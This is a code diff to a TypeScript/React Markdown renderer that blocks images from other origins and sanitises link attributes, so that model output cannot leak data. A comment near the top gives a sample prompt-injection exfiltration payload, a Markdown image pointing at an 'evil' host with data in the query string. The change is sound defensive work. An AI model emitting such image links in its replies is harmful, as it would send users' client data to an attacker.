@@ -1,18 +1,95 @@
-// The markdown renderer: loaded on demand (see message-markdown.tsx), as react-markdown and
-// remark-gfm are a large share of the chat screen's code. Raw HTML in a message is shown as text:
-// rehype-raw is deliberately not used, so model output can never inject markup.
-import { memo } from 'react';
+// The markdown renderer of every surface that shows model or user Markdown (chat replies, the admin
+// chat view, briefings, plans, newsletters, client reviews): loaded on demand (see
+// message-markdown.tsx), as react-markdown and remark-gfm are a large share of the chat screen's code.
+// Raw HTML in a message is shown as text: rehype-raw is deliberately not used, so model output can
+// never inject markup. Nothing in it loads from another origin without a click: a prompt-injected
+// reply could otherwise send client data out in an image URL (`![x](https://evil/?d=…)`) the moment
+// it renders, so only same-origin images are shown and any other becomes a link.
+import { ImageIcon } from 'lucide-react';
+import { createContext, memo, useContext } from 'react';
 import Markdown, { type Components } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
 
-const components: Components = {
-  a: ({ node: _node, ...props }) => (
+/** Every link is opened in a new tab, and tells the site nothing about where it came from. */
+const LINK_REL = 'noopener noreferrer nofollow';
+const LINK_CLASS =
+  'font-medium text-indigo-600 underline underline-offset-2 hover:text-indigo-500 dark:text-indigo-400';
+
+/** Whether the element being rendered sits inside a link (a link may not hold another). */
+const InsideLink = createContext(false);
+
+/**
+ * Where an image may be loaded from: our own origin, outside the API (an image request carries the
+ * refresh cookie, and no API answer is an image). Anything else is not loaded. react-markdown has
+ * already emptied a src with a scheme it does not allow (javascript:, data:, …).
+ */
+function imageUrlOf(src: string): { url: URL; isOwn: boolean } | null {
+  if (!src) return null;
+  let url: URL;
+  try {
+    url = new URL(src, window.location.href);
+  } catch {
+    return null;
+  }
+  if (url.protocol !== 'http:' && url.protocol !== 'https:') return null;
+  const isOwn = url.origin === window.location.origin && !url.pathname.startsWith('/api/');
+  return { url, isOwn };
+}
+
+function MarkdownImage({
+  src,
+  alt,
+  title,
+}: {
+  src?: string | undefined;
+  alt?: string | undefined;
+  title?: string | undefined;
+}) {
+  const isInsideLink = useContext(InsideLink);
+  const image = typeof src === 'string' ? imageUrlOf(src) : null;
+  if (image?.isOwn) {
+    return (
+      <img
+        src={image.url.href}
+        alt={alt ?? ''}
+        title={title}
+        loading="lazy"
+        className="my-2 inline-block max-w-full rounded-lg"
+      />
+    );
+  }
+  const label = `${alt?.trim() || 'image'}${image ? ` (${image.url.host})` : ''}`;
+  // Inside a link the outer link is what a click follows; an unusable src is only its text.
+  if (!image || isInsideLink) return <span>{label}</span>;
+  return (
     <a
-      {...props}
+      href={image.url.href}
       target="_blank"
-      rel="noopener noreferrer"
-      className="font-medium text-indigo-600 underline underline-offset-2 hover:text-indigo-500 dark:text-indigo-400"
-    />
+      rel={LINK_REL}
+      title={`Image from ${image.url.host}: opens in a new tab`}
+      className={`${LINK_CLASS} inline-flex items-center gap-1`}
+    >
+      <ImageIcon aria-hidden="true" className="size-4 shrink-0" />
+      {label}
+    </a>
+  );
+}
+
+const components: Components = {
+  a: ({ node: _node, href, children, ...props }) =>
+    // react-markdown empties an href whose scheme it does not allow (javascript:, vbscript:, data:…):
+    // such a link is only its text.
+    href ? (
+      <InsideLink.Provider value>
+        <a {...props} href={href} target="_blank" rel={LINK_REL} className={LINK_CLASS}>
+          {children}
+        </a>
+      </InsideLink.Provider>
+    ) : (
+      <span>{children}</span>
+    ),
+  img: ({ node: _node, src, alt, title }) => (
+    <MarkdownImage src={typeof src === 'string' ? src : undefined} alt={alt} title={title} />
   ),
   p: ({ node: _node, ...props }) => <p {...props} className="my-2 first:mt-0 last:mb-0" />,
   ul: ({ node: _node, ...props }) => <ul {...props} className="my-2 list-disc space-y-1 pl-5" />,
